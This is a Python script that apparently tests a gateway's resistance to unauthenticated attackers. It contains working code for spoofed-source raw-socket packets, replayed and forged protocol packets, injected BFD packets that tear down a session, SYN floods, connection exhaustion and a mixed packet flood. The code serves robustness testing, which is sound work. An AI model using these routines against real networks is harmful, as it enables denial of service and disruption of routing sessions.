#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""What an attacker can send to a gateway without knowing its key.

usage: attack.py mimp KIND --from ADDRESS --to ADDRESS [--port N] [--count N] CAPTURE
       attack.py bfd KIND --from ADDRESS --to ADDRESS [--port N] [--count N] CAPTURE
       attack.py tcp KIND --to ADDRESS [--from ADDRESS] [--port N] [--count N] [--capture CAPTURE]
       attack.py flood --from ADDRESS --to ADDRESS --rate N --seconds S CAPTURE

mimp: UDP packets with a source address of our choice, made from those that the
peer really sent (CAPTURE, a pcap file). KIND:
  replayed   as they were
  reflected  those that went the other way, sent back
  forged     as they were, but with one byte changed that matters: the priority
  version    with version 0
  garbage    of random content and length
  foreign    as they were, from this node's own address
bfd: the same with BFD's packets. KIND:
  replayed   as they were
  reflected  those that went the other way, sent back
  down       unsigned, with the discriminators of the session: Down, AdminDown, and
             Up with an interval of an hour
  blind      the same by somebody who knows addresses only: your discriminator zero
  signed     as `down`, with an authentication section that nobody with the key made
tcp: connections to the port of MCS. KIND:
  garbage    random bytes, some of them after the start of a TLS record
  silent     connected, and held until this program is ended
  hello      connected, the peer's own first flight (CAPTURE) sent, and held like that
  syn        first packets of handshakes that never go on

flood: as many packets a second as it can up to N, to the ports of MIMP, BFD and
MCS at once: recorded ones, forged ones, garbage, first packets of handshakes.
Prints how many were sent (flood: and how many a second); `silent` and `hello`
print when all are connected.
"""

import argparse
import random
import signal
import socket
import struct
import sys
import time

from capture import UDP, Capture

PRIORITY_AT = 48 + 12   # in the first block, behind type, length and two ids
MIMP_PORT, MCS_PORT, BFD_PORT = 7655, 7656, 4784
seed = random.Random(2026)


def datagrams(path, port, source):
    """Payloads of the UDP packets to `port` that `source` sent."""
    for _, _, ip in Capture(path).frames():
        header = (ip[0] & 15) * 4
        if ip[9] != UDP or socket.inet_ntoa(ip[12:16]) != source:
            continue
        if struct.unpack("!H", ip[header + 2:header + 4])[0] == port:
            yield ip[header + 8:]


def first_flight(path, port):
    """What was said first on a TCP connection to `port`: a ClientHello."""
    for _, _, ip in Capture(path).frames():
        header = (ip[0] & 15) * 4
        if ip[9] != socket.IPPROTO_TCP:
            continue
        if struct.unpack("!H", ip[header + 2:header + 4])[0] != port:
            continue
        data = ip[header + (ip[header + 12] >> 4) * 4:struct.unpack("!H", ip[2:4])[0]]
        if data[:1] == b"\x16" and data[5:6] == b"\x01":
            return data
    sys.exit(f"attack.py: no ClientHello in {path}")


def forge(payload):
    changed = bytearray(payload)
    changed[PRIORITY_AT] ^= 0xFF
    return bytes(changed)


def bfd_control(mine, yours, state, interval=100000, auth=b""):
    return struct.pack("!BBBBIIIII", 0x20, state << 6 | (4 if auth else 0), 3, 24 + len(auth), mine, yours,
                       interval, interval, 0) + auth


def bfd_payloads(args):
    own = list(datagrams(args.capture, args.port, args.to if args.kind == "reflected" else args.source))
    if not own:
        sys.exit(f"attack.py: no BFD packet in {args.capture}")
    if args.kind in ("replayed", "reflected"):
        return own[-20:]     # the first ones know no discriminator yet
    mine, yours = struct.unpack("!II", own[-1][4:12])
    if args.kind == "blind":
        return [bfd_control(seed.getrandbits(32) | 1, 0, state, interval) for state in (0, 1) for interval in (0, 3600 * 10**6)]
    auth = b"" if args.kind == "down" else b"\x05\x1c\x01\x00" + seed.randbytes(24)
    return [bfd_control(mine, yours, state, interval, auth) for state in (0, 1) for interval in (100000, 0)] + \
        [bfd_control(mine, yours, 3, 3600 * 10**6, auth)]


def raw_udp(args, port, payload):
    udp = struct.pack("!HHHH", 49152 if port == BFD_PORT else port, port, 8 + len(payload), 0) + payload
    return ip_header(args, UDP, len(udp)) + udp


def bfd(args):
    payloads = bfd_payloads(args)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(args.count):
        sock.sendto(raw_udp(args, args.port, payloads[number % len(payloads)]), (args.to, 0))
    return args.count


def flood(args):
    packets = []
    for port in MIMP_PORT, BFD_PORT:
        said = list(datagrams(args.capture, port, args.source))[-20:]
        if not said:
            sys.exit(f"attack.py: nothing to port {port} in {args.capture}")
        packets += [raw_udp(args, port, p) for p in said]
        packets += [raw_udp(args, port, p[:-1] + bytes([p[-1] ^ 1])) for p in said]
        packets += [raw_udp(args, port, seed.randbytes(seed.randrange(1, 1200))) for _ in range(20)]
    args.port = MCS_PORT
    packets += [syn_packet(args, number) for number in range(40)]
    seed.shuffle(packets)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = now = time.monotonic()
    sent = 0
    while now < begin + args.seconds:
        # what is due by now, but a burst of at most 50 ms
        due = min(int((now - begin) * args.rate) + 1 - sent, args.rate // 20)
        for _ in range(max(due, 0)):
            try:
                sock.sendto(packets[sent % len(packets)], (args.to, 0))
            except OSError:
                pass    # the queue is full
            sent += 1
        if due <= 0:
            time.sleep(0.001)
        now = time.monotonic()
    print(sent, int(sent / (now - begin)), flush=True)


def mimp(args):
    own = list(datagrams(args.capture, args.port, args.source))
    if args.kind == "reflected":
        own = list(datagrams(args.capture, args.port, args.to))
    if not own:
        sys.exit(f"attack.py: no packet to replay in {args.capture}")
    change = {"forged": forge, "version": lambda p: b"\0" + p[1:],
              "garbage": lambda p: seed.randbytes(seed.randrange(1, 79))}.get(args.kind, lambda p: p)
    if args.kind == "foreign":
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(args.count):
        payload = change(own[number % len(own)])
        if args.kind == "foreign":
            sock.sendto(payload, (args.to, args.port))
            continue
        udp = struct.pack("!HHHH", args.port, args.port, 8 + len(payload), 0) + payload
        sock.sendto(ip_header(args, UDP, len(udp)) + udp, (args.to, 0))
    return args.count


def ip_header(args, proto, length):
    # Checksum and identification are filled in by the kernel.
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, proto, 0) + \
        socket.inet_aton(args.source) + socket.inet_aton(args.to)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn_packet(args, number):
    pseudo = socket.inet_aton(args.source) + socket.inet_aton(args.to) + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    head = [10000 + number, args.port, seed.getrandbits(32), 0, 5 << 4, 2, 1024, 0, 0]
    head[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *head))
    tcp = struct.pack("!HHIIBBHHH", *head)
    return ip_header(args, socket.IPPROTO_TCP, len(tcp)) + tcp


def syn(args):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(args.count):
        sock.sendto(syn_packet(args, number), (args.to, 0))
    return args.count


def connections(args):
    for _ in range(args.count):
        source = (args.source, 0) if args.source else None
        try:
            yield socket.create_connection((args.to, args.port), timeout=3 if args.kind == "hello" else 20, source_address=source)
        except OSError:
            continue    # refused is as good an answer as a close


def tcp(args):
    if args.kind == "syn":
        return syn(args)
    if args.kind in ("silent", "hello"):
        held = list(connections(args))
        if args.kind == "hello":
            said = first_flight(args.capture, args.port)
            for sock in held:
                try:
                    sock.sendall(said)
                except OSError:
                    pass    # closed already
        print(len(held), flush=True)
        signal.sigwait({signal.SIGTERM, signal.SIGINT})
        return len(held)
    sent = 0
    for number, sock in enumerate(connections(args)):
        head = b"\x16\x03\x01\x02\x00\x01\x00" if number % 2 else b""
        try:
            sock.sendall(head + seed.randbytes(600))
            while sock.recv(4096):
                pass
        except OSError:
            pass
        sock.close()
        sent += 1
    return sent


def main():
    parser = argparse.ArgumentParser()
    what = parser.add_subparsers(dest="what", required=True)
    for name, kinds in (("mimp", ("replayed", "reflected", "forged", "version", "garbage", "foreign")),
                        ("bfd", ("replayed", "reflected", "down", "blind", "signed")),
                        ("tcp", ("garbage", "silent", "hello", "syn"))):
        sub = what.add_parser(name)
        sub.add_argument("kind", choices=kinds)
        sub.add_argument("--from", dest="source", default="")
        sub.add_argument("--to", required=True)
        sub.add_argument("--port", type=int, default={"mimp": MIMP_PORT, "bfd": BFD_PORT, "tcp": MCS_PORT}[name])
        sub.add_argument("--count", type=int, default=20)
        sub.add_argument("--capture" if name == "tcp" else "capture")
    sub = what.add_parser("flood")
    sub.add_argument("--from", dest="source", required=True)
    sub.add_argument("--to", required=True)
    sub.add_argument("--rate", type=int, default=10000)
    sub.add_argument("--seconds", type=float, default=10)
    sub.add_argument("capture")
    args = parser.parse_args()
    if args.what == "flood":
        return flood(args)
    held = args.kind in ("silent", "hello")
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT} if held else set())
    print({"mimp": mimp, "bfd": bfd, "tcp": tcp}[args.what](args), flush=True)
    return None


if __name__ == "__main__":
    main()
